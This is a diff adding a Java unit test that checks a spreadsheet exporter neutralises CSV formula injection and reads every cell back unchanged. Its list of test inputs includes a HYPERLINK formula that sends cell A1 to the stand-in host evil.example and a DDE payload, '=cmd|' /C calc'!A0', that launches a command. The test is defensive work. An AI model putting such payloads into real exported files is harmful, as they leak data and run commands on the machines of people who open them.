@@ -133,4 +133,35 @@ class SpreadsheetsTest {
     assertThat(back.separator()).isEqualTo(';');
     assertThat(back.lines().subList(1, 3)).extracting(TableLine::cells).containsExactlyElementsOf(rows);
   }
+
+  /** Texts a spreadsheet program would take for a formula, and texts next to them that it would not. */
+  private static final List<String> HOSTILE = List.of("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
+      "+49 611 31-0", "-5", "@SUM(A1)", "\tTab", "\rCR", "=cmd|' /C calc'!A0", "'=quoted", "''", "'", "'s Hertogenbosch",
+      "''=double", "plain", "", "a=b", " =lead space", "-");
+
+  @Test
+  @DisplayName("CSV injection: no written cell starts with =, +, -, @, tab or CR, and reading gives back every text as it was")
+  void formula_cells_are_neutralised_and_read_back() {
+    List<List<String>> rows = HOSTILE.stream().map(text -> List.of(text, "x")).toList();
+    byte[] file = Spreadsheets.excel(List.of("=title", "other"), rows);
+
+    Spreadsheets.Table table = Spreadsheets.read(file);
+    List<List<String>> read = table.lines().stream().map(TableLine::cells).toList();
+    assertThat(read.get(0)).containsExactly("=title", "other");
+    assertThat(read.subList(1, read.size()).stream().map(cells -> cells.get(0)).toList()).isEqualTo(HOSTILE);
+
+    String written = new String(file, StandardCharsets.UTF_8);
+    for (String line : written.substring(1).split("\r\n", -1)) {
+      for (String cell : line.split(";", -1)) {
+        String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
+        assertThat(unquoted).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
+            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
+      }
+    }
+    for (String text : HOSTILE) {
+      assertThat(Spreadsheets.textOf(Spreadsheets.cellOf(text))).isEqualTo(text);
+    }
+    assertThat(Spreadsheets.cellOf("=1+1")).isEqualTo("'=1+1");
+    assertThat(Spreadsheets.cellOf("'s Hertogenbosch")).isEqualTo("'s Hertogenbosch");
+  }
 }
